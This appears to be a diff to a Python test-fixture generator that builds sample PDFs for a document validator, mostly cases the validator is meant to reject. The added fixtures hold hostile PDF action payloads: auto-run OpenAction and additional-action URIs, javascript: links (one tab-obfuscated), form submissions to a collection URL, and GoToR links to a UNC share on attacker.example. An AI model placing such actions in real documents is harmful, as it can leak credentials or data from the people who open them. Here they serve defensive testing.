@@ -145,6 +145,7 @@ def pdf_page(
     extra_objects: tuple[bytes, ...] = (),
     content: bytes = BRAND_CONTENT,
     resources: bytes = b"<< >>",
+    trailer: bytes = b"",
 ) -> bytes:
     """One A4 page in brand colours; objects 5… are `extra_objects`."""
     objects = [
@@ -160,7 +161,7 @@ def pdf_page(
         stream(content),
         *extra_objects,
     ]
-    return raw_pdf(objects)
+    return raw_pdf(objects, trailer=trailer)
 
 
 def good_pdf() -> bytes:
@@ -452,7 +453,155 @@ def build() -> dict[str, tuple[bytes, dict]]:
         "pdf.unsafe",
     )
     add("pdf-encrypted.pdf", encrypted_pdf(), "rejected", "pdf.encrypted")
+    for name, data in pdf_action_cases().items():
+        add(name, data, "rejected", "pdf.unsafe")
+    add("good-a4-links.pdf", links_pdf(), "pass", "pdf.external_links", "print-a4")
+    add(
+        "good-a4-open-fit.pdf",
+        pdf_page(catalog_extra=b"/OpenAction [3 0 R /Fit] /PageMode /UseNone "),
+        "pass",
+        None,
+        "print-a4",
+    )
+    add("pdf-many-annotations.pdf", many_annotations_pdf(), "rejected", "pdf.too_complex")
+    add(
+        "pdf-certificate-encrypted.pdf",
+        pdf_page(
+            extra_objects=(
+                b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<3082>] >>",
+            ),
+            trailer=b"/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> "
+            b"<0123456789abcdef0123456789abcdef>] ",
+        ),
+        "rejected",
+        "pdf.encrypted",
+    )
+    add(
+        "pdf-array-over-parser-limit.pdf",
+        pdf_page(page_extra=b"/Junk [" + b"0 " * 100_001 + b"] "),
+        "rejected",
+        "pdf.too_complex",
+    )
     return files
+
+
+UNC = rb"(\\\\attacker.example\\share\\brochure.pdf)"
+
+
+def pdf_action_cases() -> dict[str, bytes]:
+    """Actions that run without a click (issue 12, item 2), and clicked links that are not
+    ordinary links. Every address is example.com / attacker.example (reserved names)."""
+    return {
+        "pdf-openaction-uri.pdf": pdf_page(
+            catalog_extra=b"/OpenAction << /S /URI /URI (https://example.com/opened?id=1) >> "
+        ),
+        "pdf-openaction-javascript-uri.pdf": pdf_page(
+            catalog_extra=b"/OpenAction << /S /URI /URI (javascript:app.alert\\(1\\)) >> "
+        ),
+        "pdf-openaction-importdata.pdf": pdf_page(
+            catalog_extra=b"/OpenAction 5 0 R ",
+            extra_objects=(b"<< /Type /Action /S /ImportData /F (answers.fdf) >>",),
+        ),
+        "pdf-openaction-next-uri.pdf": pdf_page(
+            catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
+            b"/Next [<< /S /Named /N /FirstPage >> << /S /URI /URI (https://example.com/) >>] >> "
+        ),
+        "pdf-catalog-aa-submitform.pdf": pdf_page(
+            catalog_extra=b"/AA << /WC << /S /SubmitForm /F << /FS /URL "
+            b"/F (https://example.com/collect) >> /Flags 4 >> >> "
+        ),
+        "pdf-page-aa-gotor-unc.pdf": pdf_page(
+            page_extra=b"/AA << /O << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >> "
+        ),
+        "pdf-annotation-aa-uri.pdf": pdf_page(
+            page_extra=b"/Annots [5 0 R] ",
+            extra_objects=(
+                b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
+                b"/AA << /E << /S /URI /URI (https://example.com/hover) >> >> >>",
+            ),
+        ),
+        "pdf-field-aa-gotor.pdf": pdf_page(
+            catalog_extra=b"/AcroForm << /Fields [5 0 R] >> ",
+            extra_objects=(
+                b"<< /FT /Tx /T (name) /Rect [0 0 10 10] "
+                b"/AA << /Fo << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >> >>",
+            ),
+        ),
+        "pdf-link-javascript-uri.pdf": pdf_page(
+            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
+            b"/A << /S /URI /URI (java\tscript:app.alert\\(1\\)) >> >>] "
+        ),
+        "pdf-link-gotor-unc.pdf": pdf_page(
+            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
+            b"/A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>] "
+        ),
+        "pdf-link-submitform.pdf": pdf_page(
+            page_extra=b"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 100 100] "
+            b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >> >>] "
+        ),
+    }
+
+
+def links_pdf() -> bytes:
+    """An A4 page with two ordinary clicked links and a link to a local file: allowed."""
+    link = (
+        b"<< /Type /Annot /Subtype /Link /Rect [%d 700 %d 720] /Border [0 0 0] "
+        b"/A << /S /URI /URI (%s) >> >>"
+    )
+    return pdf_page(
+        page_extra=b"/Annots ["
+        + link % (50, 250, b"https://www.sotsiaalkindlustusamet.ee/")
+        + link % (300, 500, b"mailto:info@sotsiaalkindlustusamet.ee")
+        + b"<< /Type /Annot /Subtype /Link /Rect [50 650 250 670] "
+        b"/A << /S /GoToR /F (hinnakiri.pdf) /D [0 /Fit] >> >>" + b"] "
+    )
+
+
+def many_annotations_pdf(count: int = 32_768) -> bytes:
+    """One page with `count` annotations, each its own object (count + 6 objects in all), kept
+    small on disk the way PDF 1.5 writers do it: the annotations and the /Annots array sit in
+    one compressed object stream, found through a compressed cross-reference stream."""
+    first = 6  # object 5 is the object stream; 6 the /Annots array; 7… the annotations
+    inner = [b"[" + b" ".join(b"%d 0 R" % (first + 1 + i) for i in range(count)) + b"]"]
+    inner += [b"<< /Type /Annot /Subtype /Square /Rect [0 0 10 10] /C [0 0.2 0.627] >>"] * count
+    header, body = [], b""
+    for index, item in enumerate(inner):
+        header.append(b"%d %d" % (first + index, len(body)))
+        body += item + b"\n"
+    head = b" ".join(header) + b"\n"
+    objstm = stream(
+        zlib.compress(head + body, 9),
+        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(inner), len(head)),
+    )
+    plain = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox " + A4 + b" /Contents 4 0 R /Resources << >> "
+        b"/Annots %d 0 R >>" % first,
+        stream(BRAND_CONTENT),
+        objstm,
+    ]
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for number, item in enumerate(plain, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
+    xref_number = first + len(inner)
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
+    rows += [struct.pack(">BIH", 2, 5, index) for index in range(len(inner))]
+    rows.append(struct.pack(">BIH", 1, len(out), 0))
+    xref_offset = len(out)
+    out += (
+        b"%d 0 obj\n" % xref_number
+        + stream(
+            zlib.compress(b"".join(rows), 9),
+            b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
+            % (xref_number + 1),
+        )
+        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    )
+    return out
 
 
 def write(out: Path = OUT, expected: Path = EXPECTED) -> dict[str, dict]:
